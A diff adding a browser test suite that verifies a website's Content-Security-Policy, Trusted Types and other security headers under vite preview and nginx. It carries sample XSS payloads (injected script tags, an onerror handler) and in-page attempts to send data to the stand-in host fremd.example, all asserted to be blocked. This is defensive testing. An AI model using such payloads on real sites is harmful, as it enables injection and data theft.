@@ -1,0 +1,383 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import type { Page } from 'playwright-core'
+import { describe, expect } from 'vitest'
+import {
+  contentSecurityPolicy,
+  inlineHashes,
+  parseHeadersFile,
+  renderHeadersFile,
+  withPolicy,
+} from '../../src/build/headers.ts'
+import { pages } from '../../src/content/pages.ts'
+import { visitEverything } from './journey.ts'
+import { serveWithNginx, withoutNginx } from './nginx.ts'
+import { hydrated, serveSite, test, type Site } from './site.ts'
+
+const paths = Object.values(pages).map(({ path }) => path)
+const asset = `/assets/${readdirSync('dist/assets').find((name) => name.startsWith('react-')) ?? ''}`
+const htmlFiles = readdirSync('dist').filter((name) => name.endsWith('.html'))
+const read = (name: string) => readFileSync(`dist/${name}`, 'utf8')
+
+const policy = {
+  'default-src': "'none'",
+  'base-uri': "'none'",
+  'form-action': "'none'",
+  'script-src-attr': "'none'",
+  'style-src-attr': "'none'",
+  'img-src': "'self'",
+  'font-src': "'self'",
+  'manifest-src': "'self'",
+  'connect-src': "'self'",
+  'require-trusted-types-for': "'script'",
+  'trusted-types': "'none'",
+}
+
+const emptyStyle = "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
+
+const allHashes = inlineHashes(htmlFiles.map(read))
+const hashes = (list: readonly string[]) => [...list].sort()
+
+/** Splits a policy into its directives, the sources of script-src and style-src sorted. */
+const directives = (text: string | null) =>
+  Object.fromEntries(
+    (text ?? '').split('; ').map((directive) => {
+      const [name = '', ...sources] = directive.split(' ')
+      return [name, /^(script|style)-src$/.test(name) ? hashes(sources) : sources.join(' ')]
+    }),
+  )
+
+const security = {
+  'cross-origin-embedder-policy': 'require-corp',
+  'cross-origin-opener-policy': 'same-origin',
+  'cross-origin-resource-policy': 'same-origin',
+  'permissions-policy':
+    'accelerometer=(), autoplay=(), camera=(), display-capture=(), encrypted-media=(), fullscreen=(), geolocation=(), gyroscope=(), hid=(), idle-detection=(), magnetometer=(), microphone=(), midi=(), payment=(), picture-in-picture=(), publickey-credentials-create=(), publickey-credentials-get=(), screen-wake-lock=(), serial=(), usb=(), xr-spatial-tracking=()',
+  'referrer-policy': 'no-referrer',
+  'strict-transport-security': 'max-age=63072000; includeSubDomains',
+  'x-content-type-options': 'nosniff',
+  'x-frame-options': 'DENY',
+}
+
+const incidental = [
+  'accept-ranges',
+  'connection',
+  'content-encoding',
+  'content-length',
+  'date',
+  'etag',
+  'keep-alive',
+  'last-modified',
+  'server',
+  'transfer-encoding',
+  'vary',
+]
+
+async function answerTo(url: string) {
+  const response = await fetch(url, { redirect: 'manual' })
+  const {
+    'content-security-policy': csp = null,
+    'content-type': type = '',
+    ...headers
+  } = Object.fromEntries([...response.headers].filter(([name]) => !incidental.includes(name)))
+  expect(directives(csp)).toEqual({
+    ...policy,
+    'frame-ancestors': "'none'",
+    'script-src': hashes(["'self'", ...allHashes.scripts]),
+    'style-src': hashes([...allHashes.styles, emptyStyle]),
+  })
+  return [response.status, type.toLowerCase(), headers]
+}
+
+const html: unknown = expect.stringMatching(/^text\/html(; ?charset=utf-8)?$/)
+
+/** Code of the page; as text where the test runner's transformation would change it. */
+type Attack = string | (() => unknown)
+
+/** What the browser reported of a page while `attack` ran in it: one violation for the header and one for the meta element. */
+async function violationsOf(page: Page, attack: Attack): Promise<string[]> {
+  const reports = await page.evaluateHandle(() => {
+    const reports: string[] = []
+    return {
+      both: new Promise<string[]>((resolve) => {
+        setTimeout(resolve, 5_000, reports)
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          reports.push(effectiveDirective)
+          if (reports.length === 2) resolve(reports)
+        })
+      }),
+    }
+  })
+  await page.evaluate(attack).catch(() => undefined)
+  return reports.evaluate(({ both }) => both)
+}
+
+const foreign = 'https://fremd.example'
+
+const attacks: Record<string, [blocked: string, attack: Attack]> = {
+  'a style element': [
+    'style-src-elem',
+    () => {
+      const style = document.createElement('style')
+      style.textContent = 'body { display: none }'
+      document.head.append(style)
+    },
+  ],
+  'a style attribute': ['style-src-attr', () => document.body.setAttribute('style', 'opacity: 0')],
+  'an inline handler': [
+    'require-trusted-types-for',
+    () => document.body.setAttribute('onclick', 'window.pwned = true'),
+  ],
+  'a foreign script': [
+    'require-trusted-types-for',
+    () => Object.assign(document.createElement('script'), { src: 'https://fremd.example/x.js' }),
+  ],
+  'text in a script element': [
+    'require-trusted-types-for',
+    () => (document.createElement('script').textContent = 'window.pwned = true'),
+  ],
+  innerHTML: [
+    'require-trusted-types-for',
+    () => (document.body.innerHTML = '<img src="x" onerror="window.pwned = true">'),
+  ],
+  // In a task of its own, as the debugger lets code under evaluation use eval.
+  eval: ['require-trusted-types-for', "setTimeout(() => eval('window.pwned = true'))"],
+  'a Trusted Types policy': [
+    'trusted-types',
+    () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
+      }
+      trustedTypes.createPolicy('default', { createHTML: String })
+    },
+  ],
+  'a foreign module': ['script-src-elem', "import('https://fremd.example/x.js')"],
+  'a foreign fetch': [
+    'connect-src',
+    () => fetch('https://fremd.example', { method: 'POST', body: 'x' }),
+  ],
+  'a foreign beacon': ['connect-src', () => navigator.sendBeacon('https://fremd.example', 'x')],
+  'a foreign socket': ['connect-src', () => new WebSocket('wss://fremd.example')],
+  'a foreign picture': [
+    'img-src',
+    () => Object.assign(new Image(), { src: 'https://fremd.example/x.png' }),
+  ],
+  'a foreign form target': [
+    'form-action',
+    () => {
+      const form = document.createElement('form')
+      form.action = 'https://fremd.example'
+      document.body.append(form)
+      form.submit()
+    },
+  ],
+  'a foreign frame': [
+    'frame-src',
+    () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://fremd.example'
+      document.body.append(frame)
+    },
+  ],
+  'a foreign base': [
+    'base-uri',
+    () => {
+      const base = document.createElement('base')
+      base.href = 'https://fremd.example'
+      document.head.append(base)
+    },
+  ],
+}
+
+const injected = [
+  '<script>window.pwned = true</script>',
+  `<script src="${foreign}/x.js"></script>`,
+  '<style>body { display: none }</style>',
+  `<link rel="stylesheet" href="${foreign}/x.css">`,
+  '<p style="color: red"></p>',
+  '<img src="/favicon.svg" onload="window.pwned = true">',
+  `<object data="${foreign}/x"></object>`,
+].join('')
+
+const servedBy = (serve: () => Promise<Site>) =>
+  test.extend<{ site: Site }>({
+    site: [
+      async ({}, provide) => {
+        const site = await serve()
+        await provide(site)
+        await site.close()
+      },
+      { scope: 'file' },
+    ],
+  })
+
+const servers = [
+  { name: 'vite preview', behind: servedBy(() => serveSite()), missing: false },
+  { name: 'nginx', behind: servedBy(() => serveWithNginx()), missing: withoutNginx },
+]
+if (withoutNginx) console.warn('The tests behind nginx are left out: apt-get install nginx-light')
+
+describe.each(servers)('Behind $name', ({ name, behind, missing }) => {
+  describe.skipIf(missing)('the site', () => {
+    behind('answers with exactly the agreed headers', async ({ site }) => {
+      const answers = await Promise.all(
+        [...paths, asset, '/favicon.svg', '/gibt-es-nicht'].map(async (path) => [
+          path,
+          ...(await answerTo(site.url + path)),
+        ]),
+      )
+      const page = { ...security, 'cache-control': 'no-cache' }
+      expect(answers).toEqual([
+        ...paths.map((path) => [path, 200, html, page]),
+        [
+          asset,
+          200,
+          expect.stringMatching(/^(text|application)\/javascript/),
+          { ...security, 'cache-control': 'public, max-age=31536000, immutable' },
+        ],
+        ['/favicon.svg', 200, expect.stringMatching(/^image\/svg\+xml/), page],
+        ['/gibt-es-nicht', 404, html, page],
+      ])
+    })
+
+    behind('lets nobody keep a missing asset, and keeps its list of headers', async ({ site }) => {
+      expect(await answerTo(`${site.url}/assets/gibt-es-nicht.js`)).toEqual([
+        404,
+        html,
+        { ...security, 'cache-control': 'no-cache' },
+      ])
+      expect((await fetch(`${site.url}/_headers`)).status).toBe(404)
+    })
+
+    behind('redirects a slash too many', async ({ site }) => {
+      const response = await fetch(`${site.url}/kontakt/`, { redirect: 'manual' })
+      expect([response.status, response.headers.get('location')]).toEqual([301, '/kontakt'])
+    })
+
+    behind(
+      'works without a single violation of its policy',
+      { timeout: 90_000 },
+      async ({ page, problems }) => {
+        if (name !== 'vite preview') {
+          await page.route('**/api/v1.0/email/send', (route) => route.fulfill({ body: 'OK' }))
+        }
+        await page.addInitScript(() =>
+          addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+            console.error(`Violation: ${effectiveDirective} ${blockedURI}`),
+          ),
+        )
+        await visitEverything(page)
+        expect(problems.splice(0)).toEqual([])
+      },
+    )
+
+    behind('runs and loads nothing that was put into its HTML', async ({ page, problems }) => {
+      await page.addInitScript(() => {
+        const reports: string[] = []
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          reports.push(effectiveDirective),
+        )
+        Object.assign(window, { reports })
+      })
+      await page.route('/', async (route) => {
+        const response = await route.fetch()
+        const body = (await response.text()).replace('</body>', `${injected}</body>`)
+        await route.fulfill({ response, body })
+      })
+      await page.goto('/')
+      await hydrated(page)
+      const seen = () =>
+        page.evaluate(() => {
+          const { reports, pwned } = window as unknown as { reports: string[]; pwned?: true }
+          return [pwned ?? false, ...[...reports].sort()]
+        })
+      await expect
+        .poll(seen)
+        .toEqual([
+          false,
+          ...['object-src', 'object-src', 'script-src-attr', 'script-src-attr'],
+          ...Array<string>(4).fill('script-src-elem'),
+          ...['style-src-attr', 'style-src-attr'],
+          ...Array<string>(4).fill('style-src-elem'),
+        ])
+      problems.splice(0)
+    })
+
+    behind('blocks what a script that got in could try', async ({ page, problems }) => {
+      await page.goto('/kontakt')
+      await hydrated(page)
+      const blocked: Record<string, string[]> = {}
+      for (const [what, [, attack]] of Object.entries(attacks))
+        blocked[what] = await violationsOf(page, attack)
+      expect(blocked).toEqual(
+        Object.fromEntries(
+          Object.entries(attacks).map(([what, [directive]]) => [what, [directive, directive]]),
+        ),
+      )
+      expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+      problems.splice(0)
+    })
+  })
+})
+
+describe('Each built page', () => {
+  test.for(htmlFiles)('%s carries the policy of its own inline code alone', (name) => {
+    const page = read(name)
+    const [, meta = ''] =
+      /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page) ?? []
+    const { styles, scripts } = inlineHashes([page])
+    expect(directives(meta)).toEqual({
+      ...policy,
+      'script-src': hashes(["'self'", ...scripts]),
+      'style-src': hashes([...styles, emptyStyle]),
+    })
+    expect(scripts).toHaveLength(1)
+    expect(page.indexOf('http-equiv')).toBeLessThan(page.indexOf('<style'))
+    expect(page).not.toMatch(/\sstyle="|\son\w+="/)
+  })
+})
+
+describe('The policy', () => {
+  test('hashes inline styles and scripts once, but no data and no file', () => {
+    const page =
+      '<style>a</style><style data-styled="true">b</style><script>c</script><script src="/d.js"></script><script type="application/ld+json">{}</script>'
+    expect(inlineHashes([page, page])).toEqual({
+      styles: [
+        "'sha256-ypeBEsobvcr6wjGzmiPcTaeG7/gUfE5yuYB3ha/uSLs='",
+        "'sha256-PiPoFgA5WUoziU9lZOGxNIu9egCI1CxKy3PurtWcAJ0='",
+      ],
+      scripts: ["'sha256-Ln0sA6lQeuJl7PW1NWiFpTOTogKdJBOUmXJloaJa78Y='"],
+    })
+  })
+
+  test('lets requests go to the one foreign endpoint only', () => {
+    const endpoint = 'https://api.emailjs.com/api/v1.0/email/send'
+    const text = contentSecurityPolicy({ styles: [], scripts: [] }, endpoint)
+    expect(directives(text)['connect-src']).toBe(endpoint)
+  })
+
+  test('refuses a page that it cannot be put into', () => {
+    expect(() => withPolicy('<html></html>', '/')).toThrow('A page lacks <meta charset="utf-8" />')
+  })
+})
+
+describe('The file for static hosts', () => {
+  const file = read('_headers')
+
+  test('reads back as it was written', () => {
+    expect(renderHeadersFile(parseHeadersFile(file))).toBe(file)
+  })
+
+  test('stays within the 100 rules and 2,000 characters a line of Cloudflare Pages', () => {
+    expect(parseHeadersFile(file).length).toBeLessThanOrEqual(100)
+    expect(file.split('\n').filter((line) => line.length > 2_000)).toEqual([])
+  })
+
+  test('gives no path the same header twice', () => {
+    const names = (path: string) =>
+      parseHeadersFile(file)
+        .filter((rule) => rule.path === '/*' || rule.path === path)
+        .flatMap(({ headers }) => Object.keys(headers))
+    for (const path of [...paths, '/assets/*'])
+      expect(names(path)).toEqual([...new Set(names(path))])
+  })
+})
